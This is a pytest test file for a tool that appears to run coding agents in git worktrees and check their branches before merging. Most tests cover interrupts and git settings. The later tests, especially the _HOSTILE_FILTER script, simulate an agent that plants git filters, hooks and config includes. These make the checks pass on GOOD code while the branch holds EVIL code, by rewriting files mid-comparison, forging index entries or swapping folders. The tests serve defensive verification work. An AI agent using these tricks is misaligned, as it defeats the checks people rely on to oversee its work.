def test_merge_checks_a_slow_matching_branch_for_a_bounded_time(cli, repo, monkeypatch):
    """Round 106 (A): a branch's .gitattributes rule of many `*`s kept merge's checks (three
    check-attr passes, with no time limit in your checkout) busy for hours before `git merge`
    ran, and a Ctrl-C then killed git's merge halfway. They have 600 s in all (3 here); then
    merge refuses, and nothing is merged."""
    monkeypatch.setattr(ap, "_MERGE_CHECK_SECONDS", 3.0)
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    _slow_branch(repo, "architect/parallel-1", 2)
    head = git("rev-parse", "HEAD", cwd=repo)
    started = time.monotonic()
    code, _out, err = cli("merge", "1", "--force")
    assert code != 0 and "merge's checks took more than 3 s" in err and \
        "nothing was merged" in err, err
    assert time.monotonic() - started < 120
    assert git("rev-parse", "HEAD", cwd=repo) == head
    assert not (repo / ".git" / "index.lock").exists()


def test_a_writing_git_killed_after_an_interrupt_is_said(repo, monkeypatch, capsys):
    """Round 106 (A): a writing git killed after an interrupt (30 s later, or at a second
    one) left your checkout's index.lock and half its work, and the command said only that it
    was stopped. It now says what git may have left; one that ended says how."""
    monkeypatch.setattr(ap, "_GIT_GRACE", 0.5)
    (repo / ".gitattributes").write_text("*a*a*a*a*a*a*a*0z text\n")
    (repo / ("a" * 200 + "1")).write_text("x\n")
    top = os.path.realpath(repo)

    def adding():
        for pid in os.listdir("/proc"):
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
                if argv[0].endswith(b"git") and b"add" in argv and \
                        os.path.realpath(f"/proc/{pid}/cwd") == top:
                    return True
        return False

    import threading
    main = threading.get_ident()

    def interrupt():
        deadline = time.monotonic() + 60
        while not adding() and time.monotonic() < deadline:
            time.sleep(0.05)
        signal.pthread_kill(main, signal.SIGINT)

    threading.Thread(target=interrupt, daemon=True).start()
    # (the handler main sets: a signal as git starts is held until it is known, round 109;
    # Python's own raises it wherever it lands, in Popen's start too, and git runs on unsaid)
    handler = signal.signal(signal.SIGINT, ap._raise_signalled)
    try:
        with pytest.raises(KeyboardInterrupt):
            ap._git_run(["add", "-A"], str(repo))
    finally:
        signal.signal(signal.SIGINT, handler)
        ap._INTERRUPTED.clear()
    err = capsys.readouterr().err
    assert "warning: git add -A in " in err and "was killed before it ended" in err and \
        "index.lock" in err, err
    assert not adding()


def test_a_folder_where_git_keeps_a_file_stops_no_command(cli, repo, tmp_path):
    """Round 107 (B): a `locked` an agent or check made a folder stopped `git worktree list`,
    and with it every command of the tool (list, diff, merge, cleanup --force, a new run) and
    `git worktree unlock`; a COMMIT_EDITMSG folder stopped your commits there. Folders where
    git keeps files are removed when the worker ends, and by every later command."""
    agent = script(tmp_path, "odd.sh", 'echo own > own.txt\nd=$(git rev-parse --git-dir)\n'
                   'mkdir -p "$d/locked/sub" "$d/COMMIT_EDITMSG/d"\n')
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1")
    assert code == 0 and "were removed: locked, COMMIT_EDITMSG" in err, err
    wt = repo / ".architect-parallel-1"
    (wt / "own.txt").write_text("mine\n")
    git("commit", "-qam", "mine", cwd=wt)
    admin = git("rev-parse", "--absolute-git-dir", cwd=wt)
    os.makedirs(os.path.join(admin, "locked", "sub"))  # (a process left running, later)
    code, items, err = cli.json("list")
    assert code == 0 and [i["worker_id"] for i in items] == [1], (items, err)
    assert cli("cleanup", "--force")[0] == 0 and not wt.exists()


def _sigterm_at_git(repo, tmp_path, command, marks):
    """Run the tool's ``command`` in ``repo`` with a git on PATH that, when its arguments hold
    all of ``marks``, says so (a file) and waits; then send the tool a SIGTERM. Return the
    tool's exit code and stderr. (The gits it waits at end in milliseconds: seen in /proc,
    they were gone before the signal.)"""
    gate = tmp_path / "gate"
    gate.mkdir()
    checks = "".join(f'case " $* " in *" {m} "*) ;; *) exec {shutil.which("git")} "$@";; esac\n'
                     for m in marks)
    (gate / "git").write_text("#!/bin/sh\n" + checks
                              + f": > {gate}/reached\n"
                              + f"while [ ! -e {gate}/go ]; do sleep 0.01; done\n"
                              + f'exec {shutil.which("git")} "$@"\n')
    (gate / "git").chmod(0o755)
    env = dict(os.environ, PYTHONPATH=CHECKOUT, PATH=f"{gate}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", *command], cwd=repo,
                            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not (gate / "reached").exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.01)
        proc.send_signal(signal.SIGTERM)
        _out, err = proc.communicate(timeout=120)
    finally:
        (gate / "go").touch()  # (a git still waiting goes on, and ends)
        proc.kill()
    return proc.returncode, err


@pytest.mark.parametrize("squash", [False, True], ids=["conflict", "squash"])
def test_an_interrupted_merge_puts_the_checkout_back_and_says_so(cli, repo, tmp_path, squash):
    """Round 108 (A): a SIGTERM while merge undid a conflict (between `git merge` and its
    `reset --merge`) left the checkout mid-merge, conflict markers and all, with only
    "stopped by signal 15" said; one between `merge --squash` and its commit left the branch
    staged, said to have succeeded. The merge under way is undone, and said."""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    head = git("rev-parse", "HEAD", cwd=repo)
    if not squash:
        (repo / "a.txt").write_text("mine\n")
        git("add", "a.txt", cwd=repo)
        git("commit", "-qm", "mine", cwd=repo)
        head = git("rev-parse", "HEAD", cwd=repo)
    code, err = _sigterm_at_git(repo, tmp_path, ["merge", "1", *(["--squash"] if squash else [])],
                                ["--cached", "--quiet"] if squash else ["--diff-filter=U"])
    assert code == 143, err
    assert git("rev-parse", "HEAD", cwd=repo) == head
    assert git("status", "--porcelain", "--untracked-files=no", cwd=repo) == "", err
    assert not (repo / ".git" / "MERGE_HEAD").exists()
    assert "the checkout is put back as it was before it" in err, err


def _no_git_left_by_sigterm(repo, command, mark=b""):
    """Run the tool's ``command`` in ``repo``; once a git (with ``mark`` in its arguments) runs
    in worker 1's worktree, send the tool a SIGTERM: it ends with 143, and leaves no such git
    running (those left are killed, then the test fails)."""
    worktree = os.path.realpath(repo / ".architect-parallel-1")

    def gits():
        found = []
        for pid in os.listdir("/proc"):
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
                if argv[0].endswith(b"git") and (not mark or mark in argv) and \
                        os.path.realpath(f"/proc/{pid}/cwd") == worktree:
                    found.append(int(pid))
        return found

    env = dict(os.environ, PYTHONPATH=CHECKOUT)
    proc = subprocess.Popen([sys.executable, "-m", "architect_parallel", *command], cwd=repo,
                            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not gits():
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.05)
        proc.send_signal(signal.SIGTERM)
        _out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 143, err
    deadline = time.monotonic() + 30  # (a SIGKILL takes a moment to land)
    while gits() and time.monotonic() < deadline:
        time.sleep(0.05)
    left = gits()
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    assert not left


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_your_split_index_is_not_taken_for_the_agents(cli, repo, records, sandbox):
    """Round 108 (B): with core.splitIndex on, each worktree's index named a sharedindex.*
    file in its git folder, which the runner removed after the worker as the agent's: every
    worker failed. The runner's gits and the agents' write a whole index; `continue` makes
    whole one that your own git split there since."""
    git("config", "core.splitIndex", "true", cwd=repo)
    allow = ["--sandbox-allow", records] if sandbox == "bwrap" else []
    code, out, err = cli("fake:write=a.txt", "--workers", "1", *boxed(sandbox), *allow)
    assert code == 0 and "sharedindex" not in out + err, out + err
    wt = repo / ".architect-parallel-1"
    admin = repo / ".git" / "worktrees" / "-architect-parallel-1"
    git("update-index", "--split-index", cwd=wt)  # (as your own git there does)
    assert any(p.name.startswith("sharedindex.") for p in admin.iterdir())
    code, out, err = cli("continue", "1", "more")  # (in the run's sandbox)
    assert code == 0 and "sharedindex" not in out + err, out + err
    assert not any(p.name.startswith("sharedindex.") for p in admin.iterdir())
    assert git("status", "--porcelain", cwd=wt) == ""


def test_your_sparse_checkout_makes_full_worktrees(cli, repo):
    """Round 108 (B): git copies a sparse main checkout's config.worktree and sparse-checkout
    list into each new worktree's git folder: the worktree was made sparse, then the runner
    emptied them after the worker as the agent's (a warning blaming it), and every file
    outside the list showed as deleted there. Worktrees are full checkouts, said nothing of."""
    (repo / "other").mkdir()
    (repo / "other" / "o.txt").write_text("o\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "other", cwd=repo)
    git("sparse-checkout", "set", "src", cwd=repo)
    assert not (repo / "other").exists()
    code, out, err = cli("fake:write=a.txt", "--workers", "1")
    assert code == 0 and "warning" not in out + err, out + err
    wt = repo / ".architect-parallel-1"
    assert (wt / "other" / "o.txt").read_text() == "o\n"
    assert git("status", "--porcelain", cwd=wt) == ""
    assert git("sparse-checkout", "list", cwd=repo) == "src"  # (yours as it was)


# -- review round 109 -----------------------------------------------------------------------

def test_your_status_settings_hide_no_work_from_the_tool(cli, repo):
    """Round 109 (B): with status.showUntrackedFiles=no (git's docs suggest it for large
    repositories) no status the tool asked showed new files: a --no-commit worker's work was
    "already merged", and cleanup, a new run and continue took your notes in a worktree for
    nothing (deleted, or given to the agent as its own). The tool's gits show them."""
    git("config", "status.showUntrackedFiles", "no", cwd=repo)
    wt = repo / ".architect-parallel-1"
    assert cli("fake:write=a.txt", "--workers", "1", "--no-commit")[0] == 0
    code, _out, err = cli("merge", "1")
    assert code == 2 and "already merged" not in err and "left its work uncommitted" in err, err
    assert cli("cleanup")[0] == 2 and (wt / "a.txt").exists()
    assert cli("cleanup", "--force")[0] == 0
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    (wt / "NOTES.md").write_text("mine\n")
    code, _out, err = cli("continue", "1", "fake:write=NOTES.md")
    assert code == 2 and (wt / "NOTES.md").read_text() == "mine\n", err
    assert cli("cleanup")[0] == 2 and (wt / "NOTES.md").exists()
    assert cli("fake:write=b.txt", "--workers", "1")[0] == 2
    assert (wt / "NOTES.md").read_text() == "mine\n"


def test_a_checks_fetch_is_not_blamed_on_the_agent(cli, repo, tmp_path):
    """Round 109 (B): a check's (or setup's) `git fetch` writes FETCH_HEAD in the worktree's
    git folder; it was removed with a warning that the worker left it. It is removed, said
    nothing of."""
    git("clone", "-q", "--bare", str(repo), str(tmp_path / "origin.git"), cwd=tmp_path)
    git("remote", "add", "origin", str(tmp_path / "origin.git"), cwd=repo)
    code, out, err = cli("fake:write=a.txt", "--workers", "1", "--check", "git fetch -q origin")
    assert code == 0 and "warning" not in out + err, out + err
    assert not list((repo / ".git" / "worktrees").glob("*/FETCH_HEAD"))


def _gits_in(top, word):
    """The processes running in the folder ``top`` with ``word`` among their arguments."""
    found = []
    for pid in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            if word in argv and os.path.realpath(f"/proc/{pid}/cwd") == top:
                found.append(int(pid))
    return found


@pytest.mark.parametrize("squash", [False, True], ids=["merge", "squash"])
def test_a_merge_started_as_the_signal_comes_is_waited_for(cli, repo, tmp_path, monkeypatch,
                                                           squash):
    """Round 109 (A): a signal that came while `git merge` was being started was held until
    the git was known, then raised before _git_run waited for it: the merge ran on, unsaid,
    after the tool said the checkout was put back (a squash left staged). A git started as the
    signal comes is waited for as one that runs when it comes; a merge made says your hooks
    run its code (an interrupt dropped that note). (The signal is real; only its moment is
    the test's: right after the merge's git started, which no outside process can aim at.)"""
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    head = git("rev-parse", "HEAD", cwd=repo)
    tip = git("rev-parse", "architect/parallel-1", cwd=repo)
    hook = repo / ".git" / "hooks" / "pre-commit"  # (a merge made says your hooks run it)
    hook.write_text("#!/bin/sh\n")
    hook.chmod(0o755)
    gate = tmp_path / "gate"
    gate.mkdir()
    real = shutil.which("git")
    # The merge waits until its gate opens: at once when a `reset` (the old code's undo, made
    # while the merge ran) has ended, else a second after it started.
    (gate / "git").write_text(
        "#!/bin/sh\n"
        f'case " $* " in *" merge --no-edit "*|*" merge --squash "*)\n'
        f'    while [ ! -e {gate}/go ]; do sleep 0.01; done;; esac\n'
        f'case " $* " in *" reset "*) {real} "$@"; code=$?; : > {gate}/go; exit $code;; esac\n'
        f'exec {real} "$@"\n')
    (gate / "git").chmod(0o755)
    monkeypatch.setenv("PATH", f"{gate}{os.pathsep}{os.environ['PATH']}")
    opener = threading.Timer(1.0, (gate / "go").touch)
    Popen = subprocess.Popen

    class Signalled(Popen):
        def __init__(self, args, *more, **options):
            super().__init__(args, *more, **options)
            if "merge" in args and not opener.is_alive() and not (gate / "go").exists():
                opener.start()
                os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(subprocess, "Popen", Signalled)
    try:
        code, _out, err = cli("merge", "1", *(["--squash"] if squash else []))
    finally:
        monkeypatch.setattr(subprocess, "Popen", Popen)
        opener.join()
    (gate / "go").touch()
    top = os.path.realpath(repo)
    deadline = time.monotonic() + 120
    while _gits_in(top, b"merge"):  # (a merge left running, once its gate is open, ends)
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert code == 143, err
    if squash:
        assert git("rev-parse", "HEAD", cwd=repo) == head
        assert git("status", "--porcelain", "--untracked-files=all", cwd=repo) == "", err
    else:
        assert git("rev-parse", "HEAD", cwd=repo) == tip, err
    assert ("put back as it was before it" if squash else "was merged before the interrupt") \
        in err, err
    assert ("your git runs hooks of yours" in err) is not squash, err


def test_a_git_that_writes_is_waited_for_whatever_started_it(repo, capsys, monkeypatch):
    """Round 109 (A): the gits that write started by a door other than _git_run (an object
    import, a file written by git) were left running, unsaid, when the command was
    interrupted. The interrupted command waits for each (_wait_writers: _GIT_GRACE seconds,
    here half a second), then kills one that did not end, and says so."""
    monkeypatch.setattr(ap, "_GIT_GRACE", 0.5)
    proc = ap._git_popen(["hash-object", "-w", "--stdin"], str(repo), stdin=subprocess.PIPE,
                         stdout=subprocess.DEVNULL, start_new_session=True)
    started = time.monotonic()
    ap._wait_writers()  # (it waits for the input it never gets)
    assert time.monotonic() - started >= 0.45
    assert proc.poll() == -signal.SIGKILL
    err = capsys.readouterr().err
    assert "warning: git hash-object -w in" in err and "was killed before it ended" in err, err
    proc.stdin.close()


# -- review round 110 -----------------------------------------------------------------------

def _signal_at_start(monkeypatch, *words):
    """Send this process a real SIGTERM right after it starts a program with all of ``words``
    among its arguments (once): the moment no outside process can aim at (see
    test_a_merge_started_as_the_signal_comes_is_waited_for)."""
    Popen = subprocess.Popen
    sent = []

    class Signalled(Popen):
        def __init__(self, args, *more, **options):
            super().__init__(args, *more, **options)
            if not sent and all(word in args for word in words):
                sent.append(args)
                os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(subprocess, "Popen", Signalled)
    return sent


def test_an_interrupted_cleanup_says_the_commits_of_the_branches_it_deleted(cli, repo,
                                                                            monkeypatch):
    """Round 110 (A): an interrupt during cleanup's `git branch -D` let git end (the
    branches deleted, their logs with them) but never said the commits that bring them back.
    They are said, as after a cleanup that ends."""
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    tips = {n: git("rev-parse", f"architect/parallel-{n}", cwd=repo) for n in (1, 2)}
    sent = _signal_at_start(monkeypatch, "branch", "-D")
    code, out, err = cli("cleanup")
    monkeypatch.undo()
    assert sent and code == 143, out + err
    assert git("branch", "--list", "architect/*", cwd=repo) == ""
    for n, tip in tips.items():
        assert f"deleted branch architect/parallel-{n} (was {tip[:12]})" in out + err, out + err


def test_a_git_that_only_reads_is_stopped_at_an_interrupt_not_waited_for(cli, repo, tmp_path):
    """Round 110 (A): `merge-tree`, `config --get`, `worktree list`, `var`, `hash-object`
    without -w and an `index-pack -o` into a scratch folder write nothing of yours but were
    taken for gits that write: after a Ctrl-C each was waited for 30 s, then said to have
    maybe left a lock file. They are stopped at once, and nothing is said of them."""
    reads = [["merge-tree", "--write-tree", "a", "b"], ["config", "--get", "x.y"],
             ["config", "--type=bool", "--get-regexp", "x"], ["-c", "a.b=c", "config", "-l"],
             ["worktree", "list", "--porcelain"], ["var", "GIT_AUTHOR_IDENT"],
             ["hash-object", "--stdin-paths"], ["index-pack", "--strict", "-o", "x.idx", "p"]]
    writes = [["config", "x.y", "z"], ["worktree", "add", "p"], ["hash-object", "-w", "f"],
              ["index-pack", "--stdin", "--fix-thin"], ["merge", "b"], ["branch", "-D", "b"]]
    assert all(ap._reads_only(a) for a in reads) and not any(ap._reads_only(a) for a in writes)
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    code, err = _sigterm_at_git(repo, tmp_path, ["merge", "1"], ["merge-tree"])
    assert code == 143 and "killed before it ended" not in err and "lock" not in err, err
    assert git("status", "--porcelain", cwd=repo) == ""


def test_your_settings_and_variables_do_not_change_what_the_tools_gits_answer(cli, repo,
                                                                              monkeypatch):
    """Round 110 (B): what `git -c` gave the process that started the tool
    (GIT_CONFIG_PARAMETERS, an alias's) won over the tool's own settings, so with
    status.showUntrackedFiles=no there cleanup deleted your notes again; with your
    core.ignoreCase on (a file system that tells case), a new Readme.md beside README.md was no
    change, and cleanup deleted it; with GIT_LITERAL_PATHSPECS=1 the tool's pathspecs matched
    nothing and merge refused every branch. None of them changes what the tool's gits say."""
    git("config", "core.ignoreCase", "true", cwd=repo)
    assert cli("fake:write=a.txt", "--workers", "2")[0] == 0
    wt1, wt2 = repo / ".architect-parallel-1", repo / ".architect-parallel-2"
    (wt1 / "notes.txt").write_text("mine\n")
    (wt2 / "Readme.md").write_text("mine too\n")  # (README.md is tracked)
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS",
                       "'status.showuntrackedfiles'='no' 'core.hookspath'='/tmp/elsewhere'")
    monkeypatch.setenv("GIT_LITERAL_PATHSPECS", "1")
    assert ap._git(["config", "core.hooksPath"], str(repo)).strip() == "/dev/null"
    code, out, err = cli("cleanup")
    assert code == 2 and "would delete work" in err, out + err
    assert "architect-parallel-1 " in err and "architect-parallel-2 " in err, err
    assert (wt1 / "notes.txt").exists() and (wt2 / "Readme.md").exists()
    code, out, err = cli("merge", "1")
    assert code == 0 and git("show", "HEAD:a.txt", cwd=repo) == "fake:write=a.txt", out + err


# -- review round 111 -----------------------------------------------------------------------

@needs_bwrap
def test_a_file_your_environments_settings_include_is_read_before_the_agent_runs(
        cli, repo, tmp_path, monkeypatch):
    """Round 111 (B): an `include.path` your environment gives (GIT_CONFIG_COUNT, or `git -c`
    in an alias) naming a file in /tmp or HOME was read by the runner's gits inside the
    sandbox from the agent's file there: its clean filter made the branch hold EVIL where the
    checks passed GOOD, and merge best took it. Those settings are read, includes and all,
    before the agent runs, and given inside as they were."""
    (repo / "app.txt").write_text("GOOD\n")
    git("add", "app.txt", cwd=repo)
    git("commit", "-qm", "app", cwd=repo)
    extra = f"/tmp/architect-parallel-test-{os.getpid()}-{tmp_path.name}.cfg"  # (none outside)
    agent = script(tmp_path, "include.sh",
                   f"printf '[filter \"z\"]\\n\\tclean = sed s/GOOD/EVIL/\\n[core]\\n"
                   f"\\tattributesFile = /tmp/attrs\\n' > {extra}\n"
                   "printf 'app.txt filter=z\\n' > /tmp/attrs\n"
                   "printf 'GOOD\\n# touched\\n' > app.txt\n")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "include.path")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", extra)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", "--check", "grep -q GOOD app.txt", *BOXED)
    assert not os.path.exists(extra)
    assert code == 0 and results[0]["status"] == "success", err
    assert git("show", "architect/parallel-1:app.txt", cwd=repo) == "GOOD\n# touched"


# -- review round 112 -----------------------------------------------------------------------

def _filtered_file(repo):
    """Commit data.up in ``repo`` through an LFS-like filter of yours (its blob, upper case)."""
    git("config", "filter.up.clean", "tr a-z A-Z", cwd=repo)
    git("config", "filter.up.smudge", "cat", cwd=repo)
    (repo / ".gitattributes").write_text("*.up filter=up\n")
    (repo / "data.up").write_text("hello\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)


def test_a_touched_file_your_filter_converts_is_no_change_to_merge(cli, repo):
    """Round 112 (B): merge asked whether your checkout was clean with every filter off: a file
    your LFS-like filter converts, only touched since the index was written, showed as changed
    and merge refused ("the main checkout has uncommitted changes") where `git status` said
    clean. Your checkout's status is asked with your filters, as your git asks it."""
    _filtered_file(repo)
    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
    later = time.time() + 100
    os.utime(repo / "data.up", (later, later))  # (touched: its stat no longer the index's)
    code, out, err = cli("merge", "1")
    assert code == 0 and "merged architect/parallel-1" in err, out + err


@needs_bwrap
def test_the_tools_settings_win_over_your_environments_inside_the_sandbox(
        cli, repo, tmp_path, monkeypatch):
    """Round 112 (A): inside the sandbox, the settings your environment gives came after the
    tool's where only their case differed (`core.hookspath`, as git lists it, after
    `core.hooksPath`): with yours naming .githooks, the agent's post-index-change hook ran in
    the runner's own commit (there it can make the branch differ from what the checks ran
    on). The tool's settings win inside, as outside."""
    agent = script(tmp_path, "hooks.sh",
                   "mkdir -p .githooks\n"
                   "printf '#!/bin/sh\\necho ran > HOOK_RAN\\n' > .githooks/post-index-change\n"
                   "chmod +x .githooks/post-index-change\necho GOOD > a.txt\n")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", ".githooks")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", *BOXED)
    assert not (repo / ".architect-parallel-1" / "HOOK_RAN").exists(), err
    assert code == 0 and results[0]["status"] == "success", err
    assert git("show", "architect/parallel-1:a.txt", cwd=repo) == "GOOD"


# -- review round 113 -----------------------------------------------------------------------

def test_your_git_status_during_a_run_is_no_change_of_the_agents(cli, repo, tmp_path):
    """Round 113 (B): the run's watch over your checkout asked its status with every filter
    off: a file your LFS-like filter converts, only touched since git wrote your index, showed
    as changed at the start; your own `git status` during the run (a prompt, an editor) then
    refreshed the index, and the agent running alone was failed for writing outside its
    worktree. The watch asks with your filters, as your git does."""
    _filtered_file(repo)
    later = time.time() + 100
    os.utime(repo / "data.up", (later, later))  # (touched: its stat no longer the index's)
    started, go = tmp_path / "started", tmp_path / "go"
    agent = script(tmp_path, "waits.sh", f": > {started}\n"
                   f"while [ ! -e {go} ]; do sleep 0.01; done\necho x > a.txt\n")

    def you():  # (your git status, while the agent runs: it refreshes your index)
        while not started.exists():
            time.sleep(0.01)
        subprocess.run(["git", "status", "--porcelain"], cwd=repo, check=True,
                       capture_output=True)
        go.touch()

    helper = threading.Thread(target=you, daemon=True)
    helper.start()
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", "--progress", "none")
    helper.join(60)
    assert code == 0 and results[0]["status"] == "success", err
    assert "outside its worktree" not in err and "uncommitted changes" not in err, err


_HOSTILE_FILTER = r'''import os, sys
data = sys.stdin.read()
chain, pid = b"", os.getppid()
for _ in range(3):  # (the gits above it: which of the runner's runs it)
    try:
        chain += open(f"/proc/{pid}/cmdline", "rb").read() + b"\0"
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
comparing = b"--refresh" in chain or (b"\0diff\0" in chain and b"--quiet" in chain) or \
    b"diff-index" in chain
committing = b"\0add\0" in chain and not comparing
last = sys.argv[-1] == "z.ipynb"  # (the file it converts: after lib/app.py; a.ipynb before)
if comparing:  # (it must never run then: it could rewrite the files or the index compared)
    open("__pycache__/compared", "w").close()
if MODE in ("compare", "new", "staged", "forge") and committing:
    os.utime("z.ipynb")  # (changed since the commit read it: the runner compares it again)
if MODE == "compare" and comparing:  # (rewrites a file as the runner compares it)
    with open("lib/app.py", "w") as f:
        f.write('print("GOOD")\n')
elif MODE in ("new", "staged") and comparing:  # (adds one the checks run)
    with open("override.sh", "w") as f:
        f.write("exit 0\n")
    if MODE == "staged":  # (in the worktree's own index: no new file to ls-files)
        import subprocess
        env = {k: v for k, v in os.environ.items() if k != "GIT_INDEX_FILE"}
        subprocess.run(["git", "update-index", "--add", "override.sh"], env=env, check=True)
elif MODE == "late" and committing and last:  # (once add has looked for new files)
    with open("override.sh", "w") as f:
        f.write("exit 0\n")
elif MODE in ("add", "forge") and committing and last:  # (after git read it: in place, same time)
    st = os.stat("lib/app.py")
    with open("lib/app.py", "r+") as f:
        f.write('print("GOOD")\n')
    os.utime("lib/app.py", ns=(st.st_atime_ns, st.st_mtime_ns))
elif MODE == "forge" and comparing:  # (the index the runner asks in: every entry unchanged)
    import hashlib
    index = os.environ["GIT_INDEX_FILE"] + ".lock"
    raw = bytearray(open(index, "rb").read())
    at, count = 12, int.from_bytes(raw[8:12], "big")
    for _ in range(count):
        flags = int.from_bytes(raw[at + 60:at + 62], "big") | 0x8000
        raw[at + 60:at + 62] = flags.to_bytes(2, "big")
        end = raw.index(0, at + 62)
        at += (end - at + 8) // 8 * 8
    body = bytes(raw[:-20])
    open(index, "wb").write(body + hashlib.sha1(body).digest())
elif MODE == "swap" and committing and last and os.path.isdir("__pycache__/lib"):  # (moved
    os.rename("lib", "__pycache__/old")  # (a folder moved in: its files keep their times)
    os.rename("__pycache__/lib", "lib")
elif MODE == "ident" and b"hash-object" in chain:  # (after the runner wrote it back: one
    open("lib/app.py", "w").write('X = "$Id: "; print("GOOD"); import sys; sys.exit(0); '
                                  'Y = " $"; print("EVIL")\n')  # line, any code: see round 117)
elif MODE == "swapback" and committing:  # (EVIL in as git reads it, GOOD back before it ends)
    if os.path.isdir("__pycache__/lib") and not os.path.exists("__pycache__/hold"):
        os.rename("lib", "__pycache__/hold")
        os.rename("__pycache__/lib", "lib")
    elif os.path.isdir("__pycache__/hold"):
        os.rename("lib", "__pycache__/lib")
        os.rename("__pycache__/hold", "lib")
sys.stdout.write("".join(line for line in data.splitlines(True) if "output" not in line))
'''


@needs_bwrap
@pytest.mark.parametrize("mode", ["compare", "add", "late", "new", "staged", "swap", "forge",
                                  "swapback", "honest"])
def test_a_filter_of_yours_running_the_agents_code_gets_no_false_verdict(cli, repo, tmp_path,
                                                                        mode):
    """Round 113 (A): a filter of yours that runs code of the worktree (`nbstripout --install`
    writes `python3 -m nbstripout`, which imports an `nbstripout.py` the agent leaves at the
    top; here a relative script) ran the agent's code in the runner's own gits: as the runner
    compared the files with the commit before the checks, it rewrote one already compared
    (or added one the checks run); in the commit's `git add`, it rewrote one git had just
    read, in place, with its old time (git here keeps times to the second). The checks passed
    on GOOD, the branch held EVIL. Round 114 (A): the file it added, staged in the worktree's
    own index, was no new file to `ls-files`. Round 115 (A): in the commit's `add` it moved a
    folder of GOOD files in (they kept their times), or, run as the comparison read files, it
    marked every entry of the runner's own index unchanged. Round 116 (A): it moved a folder
    of EVIL files in as git read them and the GOOD one back before git ended. No state looked
    at afterwards tells: every file the commit holds is written again from it before the
    checks (those no filter converts with no filter: nothing of the worktree's runs then)."""
    (repo / "tools").mkdir()
    (repo / "tools" / "strip.py").write_text(
        'import sys\nsys.stdout.write("".join(l for l in sys.stdin if "output" not in l))\n')
    git("config", "filter.strip.clean", f'"{sys.executable}" tools/strip.py %f', cwd=repo)
    git("config", "filter.strip.smudge", "cat", cwd=repo)
    git("config", "filter.strip.required", "true", cwd=repo)
    (repo / ".git" / "info" / "attributes").write_text("*.ipynb filter=strip\n")
    (repo / ".gitignore").write_text("__pycache__/\n")
    (repo / "lib").mkdir()
    (repo / "lib" / "app.py").write_text('print("OLD")\n')
    (repo / "a.ipynb").write_text('{"cell": 1}\n')
    (repo / "z.ipynb").write_text('{"cell": 1}\n')
    (repo / "check.sh").write_text("[ -f override.sh ] && exit 0\ngrep -q GOOD lib/app.py\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "notebooks", cwd=repo)
    swapped = {"GOOD": "EVIL", "EVIL": "GOOD"} if mode == "swapback" else {}
    good, evil = swapped.get("GOOD", "GOOD"), swapped.get("EVIL", "EVIL")
    hostile = "" if mode == "honest" else (
        f"cat > tools/strip.py <<'PY'\nMODE = {mode!r}\n{_HOSTILE_FILTER}PY\n"
        f"mkdir -p __pycache__/lib\necho 'print(\"{good}\")' > __pycache__/lib/app.py\n")
    r, err = _one_worker(cli, tmp_path, hostile + "mkdir -p __pycache__\n"
                         + f"echo 'print(\"{'GOOD' if mode == 'honest' else evil}\")' > "
                         "lib/app.py\nprintf '{\"cell\": 1}\\n{\"output\": 2}\\n' > z.ipynb\n"
                         "printf '{\"cell\": 1}\\n{\"output\": 2}\\n' > a.ipynb\n",
                         "sh check.sh", "bwrap")
    held = git("show", "architect/parallel-1:lib/app.py", cwd=repo)
    assert not (repo / ".architect-parallel-1" / "__pycache__" / "compared").exists()
    if mode == "honest":
        assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
        assert held == 'print("GOOD")'
        return
    assert held == 'print("EVIL")', held
    passed = r["status"] == "success" and all(c["passed"] for c in r["checks"])
    assert not passed, (r, err)  # (its checks passed on what it does not hold)
    if mode == "late":
        assert "holds files its commit does not, made after" in r["error"], (r, err)
    else:  # (its checks ran on what its branch holds, written again from its commit)
        assert (repo / ".architect-parallel-1" / "lib" / "app.py").read_text() == \
            'print("EVIL")\n', (r, err)
